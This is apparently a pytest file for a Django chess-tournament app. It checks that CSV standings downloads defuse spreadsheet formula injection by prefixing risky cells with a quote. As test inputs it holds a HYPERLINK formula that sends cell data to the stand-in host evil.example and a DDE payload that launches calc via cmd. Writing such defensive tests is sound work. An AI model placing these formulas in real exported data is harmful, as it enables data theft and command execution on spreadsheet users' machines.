"""Spreadsheet formulas in names (issue 13, fix 8): every CSV download neutralises them as OWASP recommends."""

import csv
import io

import pytest

from tournaments.models import Player
from tournaments.services.prizes import tournament_standings_publish
from tournaments.services.simulation import tournament_simulate
from tournaments.services.standings import standings_recompute
from tournaments.spreadsheet import csv_cell, csv_writer

pytestmark = pytest.mark.django_db

EVIL = {
    '=HYPERLINK("http://evil.example/?"&A1;"klick")': '\'=HYPERLINK("http://evil.example/?"&A1;"klick")',
    "+49 Sepp": "'+49 Sepp",
    "-1+1": "'-1+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTab": "'\tTab",
    "\rCR": "'\rCR",
}


@pytest.mark.parametrize(("raw", "safe"), EVIL.items())
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(raw, safe):
    assert csv_cell(raw) == safe


@pytest.mark.parametrize("value", ["Anna Huber", "O'Brien", "Müller-Lüdenscheidt", -3, 0, 12, None, ""])
def test_names_and_numbers_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_the_writer_keeps_separators_inside_a_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1;2", -4, "x"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == ["'=1;2", "-4", "x"]


def test_the_standings_download_neutralises_formulas_in_names_and_clubs(client, django_capture_on_commit_callbacks):
    tournament = tournament_simulate(slug="formel", players=8, rounds=1, games=8, seed=3)
    names = list(EVIL)[:4]
    players = Player.objects.filter(registrations__tournament=tournament).order_by("pk")[:4]
    for player, name in zip(players, names, strict=True):
        player.first_name, player.last_name = "", name
        player.save()
    club = players[0].club
    club.name = "=cmd|' /C calc'!A0"
    club.save()
    standings_recompute(tournament_id=tournament.pk)
    tournament_standings_publish(tournament=tournament, public=True)

    text = client.get("/t/formel/rangliste.csv").content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert {EVIL[name] for name in names} <= {row[2] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in {row[3] for row in rows[1:]}
    points = [int(row[4]) for row in rows[1:]]  # the points stay numbers, minus signs and all
    assert sum(points) == 0 and min(points) < 0
